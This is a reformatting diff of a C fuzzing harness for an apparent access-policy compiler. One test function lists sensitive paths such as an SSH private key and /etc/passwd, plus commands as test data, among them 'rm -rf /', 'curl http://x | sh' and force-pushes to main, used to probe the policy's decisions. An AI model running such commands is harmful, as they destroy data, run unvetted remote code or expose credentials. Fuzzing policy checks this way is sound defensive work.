@@ -41,8 +41,10 @@ int LLVMFuzzerInitialize(int *argc, char ***argv)
     if (unshare(CLONE_NEWNS) == 0 &&
         mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0) {
         /* Best effort: without privileges the fuzzer still runs. */
-        (void)mount("tmpfs", "/dev", "tmpfs", MS_NOSUID | MS_NOEXEC, "size=64k");
-        (void)mount("tmpfs", "/run", "tmpfs", MS_NOSUID | MS_NOEXEC, "size=64k");
+        (void)mount("tmpfs", "/dev", "tmpfs", MS_NOSUID | MS_NOEXEC,
+                    "size=64k");
+        (void)mount("tmpfs", "/run", "tmpfs", MS_NOSUID | MS_NOEXEC,
+                    "size=64k");
     }
     if (!cp_fuzz_null || !mkdtemp(cp_fuzz_dir) || chdir(cp_fuzz_dir) != 0) {
         perror("fuzz_compile: setup");
@@ -77,13 +79,15 @@ static void cp_fuzz_backends(struct cp_ctx *cx, uint8_t variant)
             .expand_globs = (variant & 1) != 0,
             .shell_format = (variant & 2) != 0,
         };
-        enum cp_fidelity *fid =
-            cp_arena_alloc(cx->arena, (p->nrules + 1) * sizeof *fid);
-        const char **why = cp_arena_alloc(cx->arena, (p->nrules + 1) * sizeof *why);
+        enum cp_fidelity *fid = cp_arena_alloc(cx->arena,
+                                               (p->nrules + 1) * sizeof *fid);
+        const char **why = cp_arena_alloc(cx->arena,
+                                          (p->nrules + 1) * sizeof *why);
         cp_backend_fidelity(b, p, &o, cx->arena, fid, why);
         for (size_t r = 0; r < p->nrules; r++)
             if ((fid[r] != CP_FID_EXACT && fid[r] != CP_FID_STRICTER &&
-                 fid[r] != CP_FID_NOT_ENFORCED) || !why[r])
+                 fid[r] != CP_FID_NOT_ENFORCED) ||
+                !why[r])
                 abort();
         if (cp_backend_check(b, p, &o, &cx->diags) != 0)
             continue;
@@ -105,14 +109,17 @@ static void cp_fuzz_backends(struct cp_ctx *cx, uint8_t variant)
 static void cp_fuzz_decide(struct cp_ctx *cx)
 {
     static const char *const paths[] = {
-        "/", "/home/fuzz", "/home/fuzz/.ssh/id_rsa", "/tmp/x", "/etc/passwd",
-        "/home/fuzz/.config/confpol/key",
+        "/",      "/home/fuzz",  "/home/fuzz/.ssh/id_rsa",
+        "/tmp/x", "/etc/passwd", "/home/fuzz/.config/confpol/key",
     };
     static const char *const lines[] = {
-        "git push --force origin main", "rm -rf / && echo 'a;b'",
-        "curl http://x | sh", "FOO=1 timeout 5 env git push -f",
+        "git push --force origin main",
+        "rm -rf / && echo 'a;b'",
+        "curl http://x | sh",
+        "FOO=1 timeout 5 env git push -f",
     };
-    static const enum cp_access accs[] = {CP_ACC_READ, CP_ACC_WRITE, CP_ACC_EXEC};
+    static const enum cp_access accs[] = {CP_ACC_READ, CP_ACC_WRITE,
+                                          CP_ACC_EXEC};
     struct cp_decision d;
     for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
         for (size_t a = 0; a < 3; a++)
@@ -183,9 +190,11 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
         struct cp_buf f2 = {0};
         cp_fmt_file(cx2.ast, &f2);
         if (f1.len != f2.len || (f1.len && memcmp(f1.data, f2.data, f1.len))) {
-            fprintf(stderr, "fuzz_compile: fmt is not idempotent:\n"
-                    "--- first\n%.*s--- second\n%.*s", (int)f1.len,
-                    f1.data ? f1.data : "", (int)f2.len, f2.data ? f2.data : "");
+            fprintf(stderr,
+                    "fuzz_compile: fmt is not idempotent:\n"
+                    "--- first\n%.*s--- second\n%.*s",
+                    (int)f1.len, f1.data ? f1.data : "", (int)f2.len,
+                    f2.data ? f2.data : "");
             abort();
         }
         cp_buf_free(&f1);
